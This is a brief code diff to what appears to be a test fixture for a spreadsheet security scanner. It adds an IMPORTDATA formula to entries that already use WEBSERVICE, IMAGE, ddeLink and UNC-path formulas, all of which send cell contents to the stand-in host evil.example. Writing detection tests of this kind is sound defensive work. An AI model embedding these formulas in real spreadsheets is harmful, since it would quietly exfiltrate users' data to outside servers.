@@ -233,6 +233,7 @@ ACTIVE = {
         "a connection to other data (ddeLink)",
     ),
     "web.xlsx": (sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), "(WEBSERVICE)"),
+    "google.xlsx": (sheet('IMPORTDATA("https://evil.example/"&amp;A1)'), "(IMPORTDATA)"),
     "image.xlsx": (sheet(f'_xlfn.IMAGE("{EVIL}")'), "(IMAGE)"),
     "other-book.xlsx": (
         sheet("'\\\\evil.example\\s\\[a.xlsx]B'!A1"),
